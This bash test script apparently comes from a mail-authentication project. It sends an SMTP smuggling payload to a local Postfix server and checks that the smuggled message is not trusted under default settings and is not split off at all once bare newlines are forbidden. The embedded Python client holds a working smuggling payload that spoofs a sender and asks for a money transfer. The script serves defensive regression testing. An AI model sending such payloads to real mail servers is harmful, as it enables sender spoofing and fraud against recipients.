#!/usr/bin/env bash
# ATTACKS GW-10 (SMTP smuggling): a DATA stream that ends one message with
# <LF>.<CR><LF> and carries a second MAIL/RCPT/DATA claiming alice@a.example,
# sent to B's Internet-facing smtpd. cachetd sees what Postfix's smtpd parsed:
# (1) with Debian's defaults (smtpd_forbid_bare_newline = no) Postfix splits
# the stream and cachetd-b processes the smuggled message as a message of its
# own, trusting it with nothing: no signature, A-R none; (2) with
# smtpd_forbid_bare_newline = yes (no exclusions), as a deployment must set it,
# Postfix 3.7.11 takes only <CR><LF>.<CR><LF> as the end of data: one message,
# the smuggled text stays inside its body and is never a message of its own.
source "$(dirname "$0")/lib.sh"
e2e_prereqs
e2e_init smuggling 12660
e2e_two_domains

# smuggle TAG: one SMTP session to B's inbound port; prints the server's replies.
smuggle() {
    python3 - "$P_B_IN" "$1" <<'PY'
import socket, sys
port, tag = int(sys.argv[1]), sys.argv[2]
s = socket.create_connection(("127.0.0.1", port), timeout=10)
f = s.makefile("rb")
def reply():
    lines = []
    while True:
        l = f.readline()
        if not l:
            return lines
        lines.append(l.decode(errors="replace").rstrip())
        if len(l) < 4 or l[3:4] != b"-":
            return lines
out = reply()
for cmd in (b"EHLO relay.evil.example", b"MAIL FROM:<eve@evil.example>", b"RCPT TO:<bob@b.example>", b"DATA"):
    s.sendall(cmd + b"\r\n")
    out += reply()
data = (b"From: eve@evil.example\r\nTo: bob@b.example\r\nSubject: first-" + tag.encode() +
        b"\r\n\r\nhello\n.\r\n"
        b"MAIL FROM:<alice@a.example>\r\nRCPT TO:<bob@b.example>\r\nDATA\r\n"
        b"From: alice@a.example\r\nTo: bob@b.example\r\nSubject: smuggled-" + tag.encode() +
        b"\r\n\r\nPlease wire the money.\r\n.\r\nQUIT\r\n")
s.sendall(data)
try:
    while True:
        r = reply()
        if not r:
            break
        out += r
except OSError:
    pass
print("\n".join(out))
PY
}

# (1) Postfix's defaults: two messages, the smuggled one not trusted
smuggle default >"$WORK/smtp-default.log"
e2e_log "default: $(tr '\n' '|' <"$WORK/smtp-default.log")"
e2e_wait_delivered sink 2
e2e_sink_by_subject sink smuggled-default "$WORK/got-smuggled.eml"
e2e_header "$WORK/got-smuggled.eml" Authentication-Results | grep 'smime=pass' >/dev/null &&
    fail "B vouches for the smuggled message"
e2e_expect_header "$WORK/got-smuggled.eml" Authentication-Results '^mx\.b\.example; (none|smime=none)'
grep -q 'from=<alice@a.example>.*client=127.0.0.1' "$WORK/cachetd-b.log" ||
    fail "cachetd-b did not see the smuggled transaction as its own"

# (2) smtpd_forbid_bare_newline = yes on the inbound smtpd: one message, nothing smuggled
postconf -c "$WORK/b/etc" -e 'smtpd_forbid_bare_newline = yes' 'smtpd_forbid_bare_newline_exclusions ='
postfix -c "$WORK/b/etc" reload >/dev/null 2>&1
sleep 2
smuggle strict >"$WORK/smtp-strict.log"
e2e_log "strict: $(tr '\n' '|' <"$WORK/smtp-strict.log")"
[ "$(grep -c 'queued as' "$WORK/smtp-strict.log")" = 1 ] ||
    fail "Postfix still split the stream into two messages"
e2e_wait_delivered sink 3
e2e_sink_by_subject sink first-strict "$WORK/got-first.eml"
if grep -qsx 'smuggled-strict' "$WORK"/sink.msgs/*.subject; then
    fail "the smuggled message was delivered as a message of its own"
fi
echo "OK: smuggling"
